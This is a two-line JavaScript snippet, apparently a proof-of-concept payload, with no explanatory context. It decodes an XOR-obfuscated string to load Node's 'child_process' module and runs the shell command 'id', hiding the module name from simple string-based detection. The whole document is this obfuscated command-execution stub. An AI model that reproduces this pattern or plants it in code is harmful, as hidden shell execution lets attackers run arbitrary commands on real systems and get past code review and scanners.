const d=s=>s.split('').map(c=>String.fromCharCode(c.charCodeAt(0)^1)).join('');
require(d('bihme^qsnbdrr')).exec('id')
